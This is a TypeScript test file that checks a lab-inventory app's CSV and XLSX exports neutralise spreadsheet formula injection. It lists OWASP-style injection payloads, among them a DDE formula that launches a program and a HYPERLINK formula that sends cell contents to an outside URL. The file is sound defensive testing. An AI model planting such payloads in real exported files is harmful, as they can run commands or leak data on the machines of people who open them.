import { unzipSync } from 'fflate';
import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, test } from 'vitest';
import type { Entry } from '../../../src/core/cellar/entry.ts';
import type { Sheet } from '../../../src/chat/attachments/cell.ts';
import { readCsv } from '../../../src/edge/files/read-csv.ts';
import { readXlsx } from '../../../src/edge/files/read-xlsx.ts';
import { writeCsv } from '../../../src/edge/files/write-csv.ts';
import { writeXlsx } from '../../../src/edge/files/write-xlsx.ts';
import { exportOf } from './export-of.ts';

/** What spreadsheets take for a formula or a command: OWASP, "CSV Injection". */
const FORMULAS = [
  '=1+1',
  '=HYPERLINK("http://example.org?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '＝1+1',
];

const sheetOf = (text: string): Sheet => ({
  columns: [
    { heading: 'A', letters: 10 },
    { heading: 'B', letters: 10 },
  ],
  rows: [[text, -3.5]],
  struck: [false],
});
const csvText = (sheet: Sheet): string => new TextDecoder().decode(writeCsv(sheet, '.'));

describe.each(FORMULAS)('%j', (text) => {
  test('no cell of the CSV begins with it, and reading takes away what was put before it', () => {
    const written = csvText(sheetOf(text));
    const [, row] = Papa.parse<string[]>(written, { delimiter: ',', newline: '\r\n' }).data;
    expect(row).toEqual([`'${text}`, '-3.5']);
    expect(readCsv(written).rows[1]).toEqual([text, '-3.5']);
  });

  test('it is a text in XLSX, and no cell of the file is a formula', async () => {
    const bytes = await writeXlsx(sheetOf(text));
    const xml = new TextDecoder().decode(unzipSync(bytes)['xl/worksheets/sheet1.xml']);
    expect(xml).not.toMatch(/<f[ >/]/);
    expect(xml).toContain('t="s"');
    expect((await readXlsx(bytes)).rows[1]).toEqual([text, -3.5]);
  });
});

const anyText = fc.oneof(
  fc.string({ unit: 'grapheme' }),
  fc.string({ unit: 'binary' }).filter((one) => one.isWellFormed()),
  fc
    .array(fc.constantFrom("'", '=', '-', '+', '@', '"', ';', ',', '\n', '\r', '\t', ' ', 'x', '_x000D_'))
    .map((all) => all.join('')),
  fc.constantFrom('constructor', '__proto__', 'toString', 'hasOwnProperty', '_x0041_', '_x005F_x0041_'),
);

test('any text comes back from CSV as it was', () => {
  fc.assert(
    fc.property(
      anyText.filter((one) => !one.includes('\uFEFF')),
      (text) => {
        expect(readCsv(csvText(sheetOf(text))).rows[1]?.[0]).toBe(text);
      },
    ),
  );
});

test('any text comes back from XLSX as it was, but for one of blanks alone', async () => {
  await fc.assert(
    fc.asyncProperty(
      anyText.filter((one) => one.trim() !== ''),
      async (text) => {
        expect((await readXlsx(await writeXlsx(sheetOf(text)))).rows[1]?.[0]).toBe(text);
      },
    ),
    { numRuns: 60 },
  );
});

test('a formula in a remark, a name, a lot or a vessel stays text in an export', async () => {
  const noting = { entry: 1, key: '=k', at: 0, noted_at: 0, by: 2 };
  const entry: Entry = {
    ...noting,
    kind: 'addition',
    vessels: ['=V'],
    chemical_lot: '@l',
    remark: '+r',
    mass_g: 1,
  };
  const bytes = await exportOf([entry]);
  const { data } = Papa.parse<string[]>(new TextDecoder().decode(bytes), { delimiter: ',', newline: '\r\n' });
  const begun = data.flat().filter((cell) => /^[=+\-@\t\r]/.test(cell));
  expect(begun).toEqual([]);
  expect(data[1]).toEqual(expect.arrayContaining(["'=k", "'=V", "'@l", "'+r", "'=Bo"]));
});
